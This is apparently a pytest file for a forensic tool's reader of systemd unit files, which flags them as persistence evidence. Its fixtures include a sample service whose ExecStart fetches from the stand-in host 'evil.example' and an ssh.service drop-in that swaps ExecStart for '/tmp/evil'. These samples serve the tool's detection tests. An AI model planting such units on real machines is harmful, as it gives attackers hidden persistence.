"""Units of systemd."""

from __future__ import annotations

from tests.evidence.artefact_kit import bears_damage, read_member, shows_plant
from tests.evidence_kit import read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.systemd_units import SystemdUnits
from nachsorge.model.words import Kind, Telemetry

READER = SystemdUnits()
UNIT = (
    b"# dropped by hand: http://comment.example/\n[Unit]\nDescription=Updater\n\n[Service]\n"
    b"ExecStartPre=-/bin/true\nExecStart=@/usr/local/bin/upd upd --url http://evil.example/ \\\n   --quiet\n"
    b"EnvironmentFile=-/etc/upd.env\n\n[Install]\nWantedBy=multi-user.target\n"
)
TIMER = b"[Unit]\nDescription=x\n[Timer]\nOnCalendar=hourly\n"
DROP_IN = b"[Service]\nExecStart=\nExecStart=/tmp/evil\n"


def test_a_service():
    assert reader_for(UNIT, "etc/systemd/system/upd.service").name == "systemd_units"
    (record,), ledger = read_bytes(READER, UNIT)
    assert (record.telemetry, ledger.records) == (Telemetry.PERSISTENCE, 1)
    shown = {(value.kind, value.text) for value in record.values}
    assert {(Kind.PATH, "/usr/local/bin/upd"), (Kind.PATH, "/bin/true"), (Kind.PATH, "/etc/upd.env")} <= shown
    # A line that goes on is one command, and comments are searched as well.
    assert any(v.field == "command" and v.text.endswith("evil.example/  --quiet") for v in record.values)
    assert any("comment.example" in value.text for value in record.values)
    assert ledger.seen()[0].spans == ()


def test_timers_and_drop_ins():
    assert reader_for(TIMER, "x.timer").name == "systemd_units"
    assert reader_for(DROP_IN, "etc/systemd/system/ssh.service.d/override.conf").name == "systemd_units"
    (record,), _ = read_bytes(READER, DROP_IN)
    assert (Kind.PATH, "/tmp/evil") in {(v.kind, v.text) for v in record.values}


def test_other_files_with_sections_are_not_taken():
    assert READER.accepts(b"[Service]\nname = x\n", "app.ini") == 0
    assert READER.accepts(b"[Unit]\nsome = thing\n[Other]\n", "x.conf") == 0


def test_damage_and_plant():
    bears_damage(READER, UNIT, 30)
    shows_plant(READER, UNIT)
    assert read_member(READER, b"")[1].records == 1  # the file is there, whatever it holds
